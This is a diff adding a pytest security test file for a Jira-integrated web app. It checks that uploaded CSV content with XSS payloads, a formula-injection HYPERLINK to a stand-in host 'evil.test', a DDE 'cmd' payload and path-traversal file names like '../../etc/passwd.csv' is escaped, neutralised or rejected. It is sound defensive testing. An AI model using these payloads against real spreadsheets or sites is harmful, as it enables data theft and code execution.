@@ -1,0 +1,160 @@
+"""Hostile input: formulas, markup, path traversal, huge headers, deep JSON, invalid UTF-8. No 500, nothing runs,
+nothing is lost."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import json
+import zipfile
+
+import pytest
+
+from app.main import routes
+from app.pipeline.export_csv import inert_cell
+from app.pipeline.generation import run_generation, writer_for
+from app.web.routing import Auth, SecuredRoute
+from tests.web.conftest import AppUnderTest
+from tests.web.project import Director, director
+
+pytestmark = [pytest.mark.unit, pytest.mark.web, pytest.mark.ops]
+
+SCRIPT = "<script>alert(1)</script>"
+IMG = '<img src=x onerror="alert(2)">'
+FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
+BUNDLES = (
+    "ID,Name,Machine name,X,Dev,QA,Description,Type,Settings/notes\n"
+    f',Evil {SCRIPT},evil_page,a,,,"{IMG} desc",Content type,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
+    ",Plain,plain_page,a,,,-,Content type,-1\n"
+)
+
+
+def _generated(site: Director) -> int:
+    session_id = site.new_session()
+    upload = site.post(f"/api/sessions/{session_id}/files", files=[("files", ("bundles.csv", BUNDLES, "text/csv"))])
+    assert upload.status_code == 201, upload.text
+    started = site.post(f"/api/sessions/{session_id}/generate", json={"provider": "offline"})
+    assert started.status_code == 202, started.text
+    services = site.app.services
+    asyncio.run(run_generation(services, started.json()["taskId"], writer=writer_for(services.settings)))
+    return session_id
+
+
+def _texts(node: object) -> list[str]:
+    if isinstance(node, dict):
+        own = [node["text"]] if node.get("type") == "text" else []
+        return own + [t for child in node.get("content", []) for t in _texts(child)]
+    return []
+
+
+def test_markup_and_formulas_stay_inert_text_in_tickets_pages_and_panels(app_under_test: AppUnderTest) -> None:
+    site = director(app_under_test)
+    session_id = _generated(site)
+    tickets = site.get(f"/api/sessions/{session_id}/tickets").json()["tickets"]
+    evil = next(t for t in tickets if "evil" in json.dumps(t).lower())
+    ticket = site.get(f"/api/sessions/{session_id}/tickets/{evil['key']}").json()
+    # ADF has no markup and no formulas: the text is carried as it was written, and nothing is lost.
+    services = app_under_test.services
+    tenant = services.tenants.find(site.jira.client_key)
+    assert tenant is not None
+    record = services.tickets.get(tenant_id=tenant.id, session_id=session_id, key=evil["key"])
+    assert SCRIPT in " ".join(_texts(record.description))
+    stored = services.sessions.files(session_id, tenant_id=tenant.id)
+    assert [f.data.decode() for f in stored] == [BUNDLES]  # the upload is kept byte for byte
+    # The description's HTML rendering (the page inserts it as markup) has the text escaped.
+    assert SCRIPT not in ticket["html"] and "<img src=x" not in ticket["html"] and "&lt;script&gt;" in ticket["html"]
+
+    pages = [
+        site.get(f"/api/sessions/{session_id}/panels/review"),
+        site.get(f"/api/sessions/{session_id}/panels/tickets/{evil['key']}"),
+        site.get(f"/api/sessions/{session_id}/panels/upload"),
+        app_under_test.client.get(site.jira.signed_path("/jira/project?projectKey=DTG&projectId=10000")),
+    ]
+    for page in pages:
+        assert page.status_code == 200, page.text
+        assert SCRIPT not in page.text and "<img src=x" not in page.text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[1].text
+
+
+def test_formula_cells_open_as_text_in_the_csv_download() -> None:
+    assert inert_cell(FORMULA) == "'" + FORMULA
+    for cell in ("@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1"):
+        assert inert_cell(cell).startswith("'")
+    for cell in ("-1", "+3.5", "-", "", "Plain", "DTG-12"):
+        assert inert_cell(cell) == cell
+
+
+def test_the_spec_download_neutralises_formulas_and_keeps_every_row(app_under_test: AppUnderTest) -> None:
+    site = director(app_under_test)
+    session_id = _generated(site)
+    download = site.get(f"/api/sessions/{session_id}/export/spec.zip")
+    assert download.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(download.content)) as archive:
+        text = archive.read("bundles.csv").decode()
+    assert "'=HYPERLINK(" in text and ",-1" in text and len(text.splitlines()) == 3
+
+
+NAMES = ["../../etc/passwd.csv", "..\\..\\windows\\bundles.csv", "/abs/evil.csv", "a\x00b.csv"]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_uploaded_file_names_cannot_climb_out(app_under_test: AppUnderTest, name: str) -> None:
+    site = director(app_under_test)
+    session_id = site.new_session()
+    response = site.post(f"/api/sessions/{session_id}/files", files=[("files", (name, BUNDLES, "text/csv"))])
+    assert response.status_code in (201, 400), response.text
+    stored = app_under_test.services.sessions.files(session_id, tenant_id=app_under_test.services.tenants.find(
+        site.jira.client_key).id)  # type: ignore[union-attr]
+    assert all("/" not in f.name and "\\" not in f.name and ".." not in f.name and "\x00" not in f.name for f in stored)
+
+
+@pytest.mark.parametrize("path", ["/api/me", "/jira/project?projectKey=DTG", "/installed"])
+def test_a_huge_authorization_header_is_refused_not_crashed(app_under_test: AppUnderTest, path: str) -> None:
+    huge = "JWT " + "eyJ" + "A" * 100_000
+    method = "POST" if path == "/installed" else "GET"
+    response = app_under_test.client.request(method, path, headers={"Authorization": huge}, content=b"{}")
+    assert 400 <= response.status_code < 500
+
+
+def _json_routes() -> list[tuple[str, str, Auth]]:
+    """Every route that takes a body, with sample path parameters."""
+    found = []
+    for route in routes():
+        if isinstance(route, SecuredRoute):
+            for method in sorted((route.methods or set()) & {"POST", "PUT", "PATCH"}):
+                path = route.path.replace("{session_id:int}", "{session}").replace("{task_id:int}", "1")
+                found.append((method, path.replace("{key}", "k").replace("{name}", "n").replace("{blocker}", "b"),
+                              route.auth))
+    return found
+
+
+BAD_BODIES = [b"[" * 100_000, b'{"a":' * 50_000, b"\xff\xfe\xfa not utf-8 {", b'{"x": "\xed\xa0\x80"}']
+
+
+@pytest.mark.parametrize("body", BAD_BODIES)
+def test_deep_or_broken_json_bodies_crash_no_endpoint(app_under_test: AppUnderTest, body: bytes) -> None:
+    site = director(app_under_test)
+    session_id = site.new_session()
+    failures = []
+    for method, path, auth in _json_routes():
+        url = path.replace("{session}", str(session_id))
+        headers = {"Content-Type": "application/json"}
+        if auth is Auth.CONTEXT:
+            headers.update(site.headers())
+        elif auth is Auth.SIGNED_INSTALL:
+            headers["Authorization"] = f"JWT {site.jira.install_token(url)}"
+        elif auth is Auth.JIRA_REQUEST:
+            url = site.jira.signed_path(url, method=method)
+        response = app_under_test.client.request(method, url, content=body, headers=headers)
+        # The admin endpoints first ask Jira whether the caller is an admin; this fake Jira cannot answer (503).
+        if response.status_code >= 500 and not (path.startswith("/api/admin") and response.status_code == 503):
+            failures.append((method, path, response.status_code))
+    assert failures == []
+
+
+def test_invalid_utf8_in_query_strings_is_no_500(app_under_test: AppUnderTest) -> None:
+    site = director(app_under_test)
+    for path in ("/api/sessions?x=%FF%FE", "/api/me?%C3%28=%80", "/healthz?q=%ED%A0%80"):
+        assert site.get(path).status_code < 500
+    page = app_under_test.client.get(site.jira.signed_path("/jira/project?projectKey=%FF%FE&projectId=1"))
+    assert page.status_code < 500
